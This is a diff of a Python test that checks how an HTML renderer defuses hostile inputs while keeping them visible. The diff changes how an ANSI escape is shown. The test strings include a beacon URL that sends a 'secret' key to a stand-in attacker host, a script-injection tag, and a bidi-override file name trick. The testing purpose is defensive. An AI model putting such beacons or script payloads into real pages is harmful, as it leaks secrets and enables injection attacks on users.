@@ -74,7 +74,7 @@ def test_nothing_is_hidden_by_what_is_defused() -> None:
     assert "secret" in shown
     assert "https://evil.example/beacon.png?key=secret" in shown
     assert "<script>window.hit = 1</script>" in words(answers.build(ATTACKS["script"]).html())
-    assert "␛[31mred" in words(answers.build(ATTACKS["ansi"]).html())
+    assert "[U+001B][31mred" in words(answers.build(ATTACKS["ansi"]).html())
     assert "[U+202E]txt.exe" in words(answers.build(ATTACKS["bidi"]).html())
 
 
